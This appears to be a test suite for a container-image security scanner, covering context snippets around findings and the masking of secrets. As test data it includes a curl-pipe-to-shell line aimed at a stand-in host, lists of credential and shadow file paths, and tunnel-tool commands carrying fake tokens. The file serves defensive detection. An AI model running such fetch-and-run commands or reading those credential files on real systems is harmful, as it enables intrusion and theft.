import re
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import scanner
from scanner import context, masked
from scanner.content import Content
from scanner.credentials import mask, secrets
from scanner.model import Context, Evidence
from scanner.record import Carrier, LayerRecord, dump, load
from tests.reports import strategies

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "rome-replay.tar"


def kept(
    data: bytes,
    *,
    line: int | None = None,
    offset: int | None = None,
    path: bytes = b"opt/run.sh",
    kind: tuple[str, str] = ("miner_launch", "command"),
    excerpt: str = "",
) -> Context | None:
    evidence = Evidence(*kind, path, offset=offset, line=line, excerpt=excerpt)
    [one] = context.added(Content(path, memoryview(data)), [evidence])
    assert replace(one, context=None) == evidence
    return one.context


# ---- what is cut out


def test_a_line_is_whole_and_has_the_neighbours_that_fit():
    data = b"".join(b"echo step %d\n" % i for i in range(40))

    around = kept(data, line=20)

    assert around is not None
    assert around.data == data[around.start : around.start + len(around.data)]
    shown = around.data.decode().split("\n")
    assert "echo step 19" in shown
    assert all(re.fullmatch(r"echo step \d+", one) for one in shown)
    assert 148 <= len(around.data) <= 160


def test_a_line_with_long_neighbours_stands_alone():
    data = b"#" * 200 + b"\ncurl -L x.example | sh\n" + b"#" * 200

    assert kept(data, line=2) == Context(201, b"curl -L x.example | sh")


def test_a_part_of_a_long_line_is_around_its_offset_or_its_words():
    data = b"a\n" + b"x" * 1_000 + b"needle" + b"y" * 1_000 + b"\nb"

    by_offset = kept(data, line=2, offset=1_002)
    by_words = kept(data, line=2, excerpt="needle")

    assert by_offset == by_words == Context(1_002 - 48, b"x" * 48 + b"needle" + b"y" * 106)
    assert kept(data, line=2) == Context(2, b"x" * 160)


def test_no_part_begins_or_ends_within_a_character():
    data = "é".encode() * 500

    for offset in (300, 301, 700, 701, 999):
        around = kept(data, line=1, offset=offset)
        assert around is not None
        assert around.data.decode() == "é" * (len(around.data) // 2)


def test_bytes_that_are_no_text_are_rows_of_sixteen():
    data = bytes(range(256)) * 8

    around = kept(data, offset=1_000)

    assert around is not None
    assert around.start % 16 == 0
    assert around.start <= 1_000 < around.start + len(around.data)
    assert around.data == data[around.start : around.start + 160]
    assert kept(data, offset=3) == Context(0, data[:160])
    assert kept(data, offset=2_047) == Context(1_984, data[1_984:])


@pytest.mark.parametrize(("line", "offset"), [(None, None), (9, None), (None, 10_000)])
def test_without_a_place_in_the_file_there_is_none(line, offset):
    assert kept(b"one\ntwo\n", line=line, offset=offset) is None
    assert kept(b"\0one\ntwo\n", line=line, offset=offset) is None


def test_a_file_keeps_eight_of_a_kind_and_a_layer_a_megabyte():
    data = b"line\n" * 20
    evidence = [Evidence("d", kind, b"f", line=line) for kind in ("a", "b") for line in range(1, 13)]

    told = context.added(Content(b"f", memoryview(data)), evidence)

    assert [one.kind for one in told if one.context] == ["a"] * 8 + ["b"] * 8
    room = context.Room()
    large = [replace(evidence[0], context=Context(0, b"x" * 160))] * 5_000
    many = [one.context is not None for _ in range(4) for one in room.within(large)]
    assert many.count(True) == context.PER_LAYER // 160
    assert many == sorted(many, reverse=True)


def test_evidence_of_another_file_gets_none():
    other = Evidence("d", "k", b"other", line=1)

    assert context.added(Content(b"f", memoryview(b"x\n")), [other]) == [other]


# ---- what is never in it


@pytest.mark.parametrize(
    "path",
    [
        b"root/.netrc",
        b"root/.pgpass",
        b"home/a/.aws/credentials",
        b"app/.env",
        b"etc/shadow",
        b"etc/shadow-",
        b"etc/gshadow",
    ],
)
def test_a_file_that_is_there_to_hold_secrets_keeps_none(path):
    assert kept(b"a\nroot:$6$rounds$abcdefgh:1::::::\nb\n", line=2, path=path) is None


@pytest.mark.parametrize("kind", [("credentials", "credential"), ("ssh_private_key", "key"), ("tunnel_tool", "config")])
def test_neither_does_one_in_which_such_evidence_lies(kind):
    assert kept(b"token-abcdefgh\n", line=1, kind=kind) is None
    both = [Evidence("miner_launch", "command", b"f", line=1), Evidence(*kind, b"f", line=2)]
    assert context.added(Content(b"f", memoryview(b"x\ny\n")), both) == both


@pytest.mark.parametrize(
    "begin",
    [
        b"-----BEGIN OPENSSH PRIVATE KEY-----",
        b"-----BEGIN RSA PRIVATE KEY-----",
        b"-----BEGIN OpenVPN Static key V1-----",
        b"-----END EC PRIVATE KEY-----",
        b"Private-Lines: 14",
        b"b3BlbnNzaC1rZXktdjEAAAAABG5vbmU",
    ],
)
@pytest.mark.parametrize("size", [0, 500_000])
def test_none_is_kept_near_a_private_key(begin, size):
    far = b"# nothing\n" * (size // 10)
    text = far + b"cat > key <<E\n" + begin + b"\n" + b"MIIabcdefgh" * 9 + b"\nE\nssh -i key host\n"

    assert kept(text + far, line=text.count(b"\n")) is None
    assert kept(b"\0" + text + far, offset=len(text) - 10) is None


def test_a_public_key_is_no_secret():
    text = b"-----BEGIN PUBLIC KEY-----\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5 a@b\n"

    assert kept(text, line=2) == Context(0, text[:-1])


TOKEN = "ZqT7" + "w9KpLx2V"
"""Of no known shape."""
FORMS = (
    "curl -u bot:{} https://x.example/",
    "git clone https://bot:{}@git.example/a.git",
    "export DB_PASSWORD={}",
    "api_token: '{}'",
    '{{"password": "{}", "user": "x"}}',
    "sshpass -p {} ssh a@b.example",
    "Authorization: Bearer {}",
    "mysql -uroot -p{} app",
    "frpc tcp -t {} -s h.example",
    "netbird up --setup-key {}",
    "echo 'root:{}' | chpasswd",
    "--from-literal=key={}",
    'SECRET_KEY="{} and more words"',
    "ghp_{}0123456789abcdefghij",
    "password := `{}`",
    'FOO="a" BAR_TOKEN="{}" BAZ="c"',
    "é password=ünï{}x ü",
)
FILL = (
    "",
    "echo it's fine",
    'say "hello',
    "# nothing to see here " * 4,
    "x" * 300,
    "é" * 90,
    "\udcff\udc80",
    "pass",
    "\t",
)
bodies = st.lists(
    st.tuples(st.sampled_from(FORMS), st.lists(st.sampled_from(FILL), max_size=3)), min_size=1, max_size=6
)


def planted(body: list[tuple[str, list[str]]]) -> tuple[str, list[str]]:
    """The text of a file, and the secrets in it."""
    lines, hidden = [], []
    for number, (form, fill) in enumerate(body):
        token = "".join(chr(ord(c) + number) for c in "ZqTbw0KpLx2VcQd")  # no two have anything in common
        hidden.append(token)
        lines += [*fill, form.format(token)]
    return "\n".join(lines), hidden


def pieces(token: str) -> list[str]:
    """Every part of it that has eight characters and more."""
    return [token[at : at + 8] for at in range(len(token) - 7)]


@given(bodies, st.data(), st.booleans(), st.sampled_from((0, 70_000)))
@settings(deadline=None, max_examples=40, suppress_health_check=list(HealthCheck))
def test_no_secret_that_is_masked_in_the_whole_file_is_in_any_context(body, data, is_text, size):
    far = "# nothing to see here\n" * (size // 22)
    middle, tokens = planted(body)
    text = far + middle + "\n" + far if is_text else far + "\0" + middle.replace("\n", "\0") + "\0" + far
    raw = text.encode("utf-8", "surrogateescape")
    raw = raw if is_text else b"\x7fELF\0" + raw
    whole = raw.decode("utf-8", "surrogateescape")
    gone = [token for token in tokens if token not in masked.text(whole)]
    first = len(raw) - len((middle + far).encode("utf-8", "surrogateescape")) - 8
    offset = data.draw(
        st.integers(max(first, 0), min(first + len(middle.encode("utf-8", "surrogateescape")) + 8, len(raw) - 1))
    )

    around = kept(raw, offset=offset)

    for token in gone:
        for piece in pieces(token):
            assert around is None or piece.encode() not in around.data, (token, around)
    if around is not None:
        assert len(around.data) <= 160
        original = raw[around.start : around.start + len(around.data)]
        assert len(original) == len(around.data)
        assert all(a == b or a == ord("*") for a, b in zip(around.data, original, strict=True))


@pytest.mark.parametrize("form", FORMS)
def test_the_secrets_of_these_forms_are_masked(form):
    text, [token] = planted([(form, [])])

    assert token not in masked.text(text)


def test_a_secret_that_is_cut_by_an_edge_leaves_no_half():
    line = "x" * 140 + " https://bot:" + TOKEN * 4 + "@h.example/ " + "y" * 200

    for offset in range(0, len(line), 7):
        around = kept(line.encode(), offset=offset)
        assert around is not None
        assert not any(piece.encode() in around.data for piece in pieces(TOKEN))


texts = st.one_of(
    strategies.texts,
    bodies.map(lambda body: planted(body)[0]),
    st.text(st.sampled_from("ab=:'\"/@*-\\ \nPASSWORDtoken"), max_size=60),
)


@given(texts)
@example("password=*")
@example("password=**** https://a:b@c")
@settings(deadline=None)
def test_the_places_of_secrets_are_those_that_mask_hides(text):
    shown, places = secrets(text)

    assert shown == mask(text)
    assert len(places) == len(shown) + 1
    assert places == sorted(places)
    assert places[-1] == len(text)
    assert (places[0] == 0) or shown == ""


@given(st.binary(max_size=80) | texts.map(lambda text: text.encode("utf-8", "surrogatepass")), st.booleans())
@settings(deadline=None)
def test_bytes_without_secrets_are_as_many(data, strings):
    shown = masked.octets(data, strings)

    assert len(shown) == len(data)
    assert all(a == b or a == ord("*") for a, b in zip(shown, data, strict=True))


@given(st.binary(max_size=400), st.lists(strategies.evidence, max_size=4), st.booleans())
@settings(deadline=None)
def test_no_file_stops_it(data, evidence, of_this):
    content = Content(b"f", memoryview(data))
    shown = [
        replace(one, path=b"f", inner=(), context=None) if of_this else replace(one, context=None) for one in evidence
    ]

    told = context.added(content, shown)

    assert [replace(one, context=None) for one in told] == shown


# ---- with the layer's record, and in a report


def test_it_is_kept_with_the_layer():
    evidence = Evidence("d", "k", b"f", (b"i",), 3, None, "x", {}, Context(0, b"\0\xff*"))
    carrier = Carrier(b"f", 0o644, 0, 0, False, (), (evidence, replace(evidence, context=None)), "", 0)
    record = LayerRecord(None, 1, (carrier,), (), {}, dict, dict)  # type: ignore[arg-type]

    assert load(dump(record, b"", b"")).carriers == (carrier,)


def test_a_scan_tells_what_stands_around_its_evidence():
    cold = scanner.scan(f"archive:{FIXTURE}", cache=False)

    [tunnel] = [f for f in cold.findings_of("tunnel/reverse-ssh") if f.locations[0].display.endswith(b".service")]
    around = tunnel.evidence[0].context
    assert around is not None
    assert around.data.startswith(b"ExecStart=/usr/bin/autossh")
    [config] = cold.findings_of("miner/config")
    assert all(one.context is not None for one in config.evidence if one.line)
    again = scanner.scan(f"archive:{FIXTURE}", cache=False)
    assert again.findings == cold.findings


@pytest.mark.parametrize("coding", ["utf-8", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize(
    "secret",
    [
        "https://user:HIDDEN@h.example/x",
        "export GITHUB_TOKEN=HIDDEN",
        '{"auths": {"r.example": {"auth": "HIDDEN"}}}',
        "root:$6$salt$HIDDEN:19000:0:99999:7:::",
        "admin:$2y$10$HIDDEN",
        "<password>HIDDEN</password>",
        "define('DB_PASSWORD', 'HIDDEN');",
        "requirepass HIDDEN",
        "tool --password \\\n  HIDDEN",
        "machine h\n login me\n password HIDDEN",
        'API_KEY="first\nHIDDEN"',
        "PrivateKey = HIDDEN=",
    ],
)
def test_no_secret_stands_around_whatever_its_form_and_its_coding(secret: str, coding: str) -> None:
    hidden = "hunter2" * 4
    text = secret.replace("HIDDEN", hidden) + "\nneedle\n"
    data = text.encode(coding)
    at = data.find("needle".encode("utf-16-le" if coding == "utf-16" else coding))
    around = kept(data, offset=at, excerpt="needle")
    assert around is None or b"hunter2" not in around.data.replace(b"\0", b"")


def test_wide_text_without_secrets_keeps_what_stands_around() -> None:
    data = "one\r\nneedle\r\nthree\r\n".encode("utf-16")
    around = kept(data, offset=data.find(b"n\0e\0e\0d"), excerpt="needle")
    assert around is not None
    assert around.data == data
